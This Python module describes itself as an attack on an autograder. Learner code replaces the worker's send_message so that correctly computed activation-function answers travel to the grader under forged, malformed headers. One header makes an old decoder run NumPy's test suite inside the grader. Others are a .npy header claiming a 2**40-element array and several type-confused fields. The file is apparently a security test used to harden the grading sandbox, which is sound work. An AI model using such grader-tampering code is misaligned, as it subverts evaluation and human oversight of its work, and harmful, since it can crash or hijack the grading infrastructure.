"""Attack: rewrite the worker's answers on their way to the grader.

Learner code runs in the worker's own interpreter, so it reaches the worker's
functions through sys.modules["__main__"]. This module replaces the worker's
send_message: every function computes the right answer, and the header that
carries it is swapped for one crafted to make the grader's decoder act on what
it reads. The first asks the grader to build a random generator named "test",
which an old decoder found with getattr(np.random, name) and called: NumPy's
own test suite ran inside the grader. The others are malformed in other ways
(a list of forbidden imports that is not a list, a state that is not one, a
handle that is not a number, a huge array claimed by a tiny blob, an answer
that is not a dict, an error report that is not a dict).
"""

import struct
import sys

import numpy as np

_worker = sys.modules["__main__"]
_send = _worker.send_message


def _huge_array_blob() -> bytes:
    """A .npy header claiming 2**40 float64 values, followed by none of them."""
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def _answer(result) -> dict:
    """A successful answer's header carrying `result` (already in wire form)."""
    return {"ok": True, "value": {"$dict": {"result": result}}}


FORGED = {
    "relu": (_answer({"$rng": {"bit_generator": "test"}}), []),
    "step": (dict(_answer({"$tuple": []}), forbidden=3), []),
    "sigmoid": (
        _answer({"$rng": {"bit_generator": "MT19937", "state": {"key": [1], "pos": 9}}}),
        [],
    ),
    "tanh": (_answer({"$handle": "1", "type": []}), []),
    "relu_backward": ({"ok": True, "value": 5}, []),
    "sigmoid_backward": (_answer({"$array": 0}), [_huge_array_blob()]),
    "tanh_backward": ({"ok": False, "error": ["not", "a", "dict"]}, []),
}
_pending = []


def _forging_send(fd, header, blobs):
    if _pending and "ready" not in header:
        header, blobs = _pending.pop()
    return _send(fd, header, blobs)


_worker.send_message = _forging_send


def _forge(name, answer):
    _pending[:] = [FORGED[name]]
    return answer


def step(x):
    return _forge("step", (np.asarray(x) > 0).astype(np.float64))


def relu(x):
    return _forge("relu", np.maximum(x, 0))


def sigmoid(x):
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return _forge("sigmoid", np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e)))


def tanh(x):
    return _forge("tanh", np.tanh(x))


def relu_backward(dout, x):
    return _forge("relu_backward", np.where(np.asarray(x) > 0, dout, 0.0))


def sigmoid_backward(dout, x):
    s = 1.0 / (1.0 + np.exp(-np.asarray(x, dtype=np.float64)))
    return _forge("sigmoid_backward", dout * s * (1.0 - s))


def tanh_backward(dout, x):
    return _forge("tanh_backward", dout * (1.0 - np.tanh(x) ** 2))
